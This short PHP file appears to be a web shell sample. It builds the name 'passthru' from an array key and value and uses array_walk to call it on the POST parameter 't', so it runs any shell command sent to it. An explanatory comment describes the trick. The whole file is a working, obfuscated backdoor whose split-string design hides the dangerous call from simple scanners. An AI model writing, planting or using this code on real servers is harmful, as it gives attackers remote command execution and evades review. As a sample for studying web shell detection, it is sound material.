<?php
// The function name is split between a key and its value; array_walk hands both to the callback,
// which joins them and calls the result on the posted text.
class Joiner
{
    public static $arg = '';

    public static function each($end, $start)
    {
        $call = $start . $end;
        $call(self::$arg);
    }
}
Joiner::$arg = isset($_POST['t']) ? $_POST['t'] : 'id';
$parts = array('pass' => 'thru');
array_walk($parts, array('Joiner', 'each'));
